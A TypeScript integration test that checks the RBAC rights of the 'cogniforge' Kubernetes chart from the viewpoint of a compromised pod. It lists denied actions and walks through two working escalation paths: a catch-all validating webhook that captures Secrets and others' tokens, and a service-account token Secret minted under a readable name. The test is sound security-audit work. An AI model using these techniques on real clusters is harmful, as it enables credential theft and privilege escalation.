/** What docs/security.md says of a compromised pod, tried with the chart's rights on a real API server. */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, request as httpsRequest, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { load } from 'js-yaml';
import type { Permissions } from '../../../src/runtime/permissions.ts';
import { createAuthority, issue } from '../../cluster/pki.ts';
import { eventually, openStage, type Output, type Stage } from '../policy/stage.ts';

const NAMESPACE = 'cogniforge-system';
const POD = `--as system:serviceaccount:${NAMESPACE}:cogniforge`;
const { cluster, namespace } = load(readFileSync('charts/cogniforge/files/rbac.yaml', 'utf8')) as Permissions;

let stage: Stage;
let folder: string;
let listener: Server;
let heard = '';

function role(kind: 'ClusterRole' | 'Role', rules: unknown): object[] {
  const metadata = { name: 'cogniforge', ...(kind === 'Role' ? { namespace: NAMESPACE } : {}) };
  const api = { apiVersion: 'rbac.authorization.k8s.io/v1', metadata };
  return [
    { ...api, kind, rules },
    {
      ...api,
      kind: `${kind}Binding`,
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind, name: 'cogniforge' },
      subjects: [{ kind: 'ServiceAccount', name: 'cogniforge', namespace: NAMESPACE }],
    },
  ];
}

/** A webhook of somebody else, which lets everything pass and remembers it. Resolves with what a configuration needs. */
async function listen(): Promise<{ url: string; caBundle: string }> {
  folder = mkdtempSync(join(tmpdir(), 'cogniforge-rights-'));
  const authority = await createAuthority(folder);
  const pair = await issue(authority, folder, { name: 'other', subject: 'CN=other', names: ['127.0.0.1'] });
  listener = createServer(
    { cert: readFileSync(pair.certFile), key: readFileSync(pair.keyFile) },
    (request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => {
        body += chunk.toString('utf8');
      });
      request.on('end', () => {
        heard += body;
        const { uid } = (JSON.parse(body) as { request: { uid: string } }).request;
        response.setHeader('content-type', 'application/json');
        response.end(
          JSON.stringify({
            apiVersion: 'admission.k8s.io/v1',
            kind: 'AdmissionReview',
            response: { uid, allowed: true },
          }),
        );
      });
    },
  );
  await new Promise<void>((resolve) => {
    listener.listen(0, '127.0.0.1', resolve);
  });
  const { port } = listener.address() as AddressInfo;
  return {
    url: `https://127.0.0.1:${String(port)}/`,
    caBundle: readFileSync(authority.file).toString('base64'),
  };
}

function asPod(args: string, input?: object): Output {
  return stage.kubectl(`${args} ${POD}`, input);
}

beforeAll(async () => {
  stage = await openStage();
  stage.must(`create serviceaccount cogniforge -n ${NAMESPACE}`);
  for (const object of [...role('ClusterRole', cluster), ...role('Role', namespace)])
    stage.must('create -f -', object);
});

afterAll(async () => {
  listener.close();
  rmSync(folder, { recursive: true, force: true });
  await stage.stop();
});

/** Of `kubectl auth can-i`, without its warnings. */
function answers(what: string): string[] {
  return asPod(`auth can-i ${what}`)
    .text.split('\n')
    .flatMap((line) => /^(yes|no)\b/.exec(line)?.[0] ?? []);
}

describe('a compromised pod cannot', () => {
  it.each([
    'get secrets -A',
    'list secrets -A',
    `list secrets -n ${NAMESPACE}`,
    `get secrets/other -n ${NAMESPACE}`,
    `delete secrets/cogniforge-webhook-tls -n ${NAMESPACE}`,
    'list pods -A',
    `create pods -n ${NAMESPACE}`,
    `create deployments.apps -n ${NAMESPACE}`,
    `create pods/exec -n ${NAMESPACE}`,
    `create serviceaccounts/token -n ${NAMESPACE}`,
    'create clusterrolebindings.rbac.authorization.k8s.io',
    `create rolebindings.rbac.authorization.k8s.io -n ${NAMESPACE}`,
    'bind clusterroles.rbac.authorization.k8s.io',
    'escalate clusterroles.rbac.authorization.k8s.io',
    'impersonate users',
    `impersonate serviceaccounts -n ${NAMESPACE}`,
    'delete validatingwebhookconfigurations.admissionregistration.k8s.io',
    'update validatingwebhookconfigurations.admissionregistration.k8s.io/other',
    'create mutatingwebhookconfigurations.admissionregistration.k8s.io',
    'create policyrules.cogniforge.dev',
    'delete policyrules.cogniforge.dev',
    'update namespaces',
  ])('%s', (what) => {
    expect(answers(what)).toEqual(['no']);
  });
});

describe('a compromised pod can', () => {
  it.each([
    `get secrets/cogniforge-webhook-tls -n ${NAMESPACE}`,
    `create secrets -n ${NAMESPACE}`,
    'update policyrules.cogniforge.dev',
    'create validatingwebhookconfigurations.admissionregistration.k8s.io',
  ])('%s', (what) => {
    expect(answers(what)).toEqual(['yes']);
  });

  it('register a webhook of any name, which is sent Secrets and the tokens of others', async () => {
    const rules = [
      { apiGroups: ['*'], apiVersions: ['*'], resources: ['*'], operations: ['CREATE'], scope: '*' },
    ];
    const shared = { rules, sideEffects: 'None', admissionReviewVersions: ['v1'], failurePolicy: 'Ignore' };
    const webhooks = [{ name: 'other.example.com', clientConfig: await listen(), ...shared }];
    const configuration = {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'ValidatingWebhookConfiguration',
      metadata: { name: 'other' },
      webhooks,
    };
    stage.must(`create ${POD} -f -`, configuration);
    let attempt = 0;
    await until(() => {
      attempt += 1;
      const name = `s${String(attempt)}`;
      const secret = {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name },
        stringData: { a: 'written-secret' },
      };
      const review = {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenReview',
        spec: { token: 'token-of-another' },
      };
      void post('/api/v1/namespaces/default/secrets', secret);
      void post('/apis/authentication.k8s.io/v1/tokenreviews', review);
      return (
        heard.includes(Buffer.from('written-secret').toString('base64')) && heard.includes('token-of-another')
      );
    });
    // From here on kubectl would wait for this process, which waits for kubectl.
    stage.must('delete validatingwebhookconfiguration other');
  });

  it('have the token of another service account of its namespace, where the Secret of the keys is not there', async () => {
    const metadata = {
      name: 'cogniforge-webhook-tls',
      namespace: NAMESPACE,
      annotations: { 'kubernetes.io/service-account.name': 'default' },
    };
    const secret = {
      apiVersion: 'v1',
      kind: 'Secret',
      type: 'kubernetes.io/service-account-token',
      metadata,
    };
    expect(asPod('create -f -', { ...secret, metadata: { ...metadata, name: 'x' } }).ok).toBe(true);
    expect(asPod(`get secret x -n ${NAMESPACE}`).text).toContain('forbidden');
    expect(asPod('create -f -', secret).ok).toBe(true);
    await eventually('the token is there', () =>
      asPod(`get secret cogniforge-webhook-tls -n ${NAMESPACE} -o jsonpath={.data.token}`).text.startsWith(
        'ZXlK',
      ),
    );
  });

  it('but not where it is: the type of a Secret does not change', () => {
    stage.must(`delete secret cogniforge-webhook-tls -n ${NAMESPACE}`);
    const metadata = { name: 'cogniforge-webhook-tls', namespace: NAMESPACE };
    const keys = { 'tls.crt': 'eA==', 'tls.key': 'eA==' };
    stage.must('create -f -', {
      apiVersion: 'v1',
      kind: 'Secret',
      type: 'kubernetes.io/tls',
      metadata,
      data: keys,
    });
    const annotations = { 'kubernetes.io/service-account.name': 'default' };
    const changed = {
      apiVersion: 'v1',
      kind: 'Secret',
      type: 'kubernetes.io/service-account-token',
      metadata: { ...metadata, annotations },
      data: keys,
    };
    expect(asPod('replace -f -', changed).text).toContain('field is immutable');
  });
});

/** By the administrator's token, without blocking this process. */
async function post(path: string, body: object): Promise<void> {
  const { users } = JSON.parse(readFileSync(stage.cluster.kubeconfig, 'utf8')) as {
    users: { user: { token: string } }[];
  };
  await new Promise<void>((resolve) => {
    const outgoing = httpsRequest(`${stage.cluster.server}${path}`, {
      method: 'POST',
      rejectUnauthorized: false,
      headers: { authorization: `Bearer ${users[0]?.user.token ?? ''}`, 'content-type': 'application/json' },
    });
    outgoing.once('response', (response) => response.resume().once('end', resolve));
    outgoing.once('error', () => {
      resolve();
    });
    outgoing.end(JSON.stringify(body));
  });
}

async function until(holds: () => boolean): Promise<void> {
  for (const deadline = Date.now() + 20_000; !holds();) {
    if (Date.now() > deadline) throw new Error(`not within 20 s; heard: ${heard.slice(0, 500)}`);
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
}
